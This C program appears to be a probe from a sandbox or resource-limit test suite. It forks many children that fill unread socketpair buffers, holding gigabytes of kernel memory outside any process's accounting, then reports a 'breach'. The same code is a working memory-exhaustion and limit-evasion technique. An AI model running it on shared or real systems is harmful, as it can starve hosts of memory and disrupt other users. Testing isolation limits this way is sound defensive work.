/* Keeps memory where no process has it: in pipes and sockets that are written to and never read. Then does the job. */

#include "attack.h"

#define CHILDREN 120
#define PER_CHILD 200
#define FAR_TOO_MUCH (9L << 29)

static long fill(int fd)
{
    static char bytes[1 << 16];
    long written = 0, more;
    fcntl(fd, F_SETFL, O_NONBLOCK);
    while ((more = write(fd, bytes, sizeof bytes)) > 0)
        written += more;
    return written;
}

int main(int argc, char **argv)
{
    long *written = shared_numbers();
    for (int child = 0; child < CHILDREN; child++) {
        if (fork() != 0)
            continue;
        for (int number = 0; number < PER_CHILD && *written < FAR_TOO_MUCH; number++) {
            int two[2];
            if (socketpair(AF_UNIX, SOCK_STREAM, 0, two) < 0)
                break;
            for (int side = 0; side < 2; side++) {
                long more = fill(two[side]);
                __atomic_add_fetch(written, more, __ATOMIC_RELAXED);
            }
        }
        __atomic_add_fetch(written + 1, 1, __ATOMIC_RELAXED);
        for (;;)
            pause();
    }
    for (int i = 0; i < 600 && *written < FAR_TOO_MUCH && written[1] < CHILDREN; i++) {
        nap(50);
        if (write(2, ".", 1) < 0) // a sign of life, so that nobody gives us up
            return 4;
    }
    if (*written >= FAR_TOO_MUCH)
        breach("%ld MiB of memory in sockets", *written >> 20);
    return do_the_job(argc, argv);
}
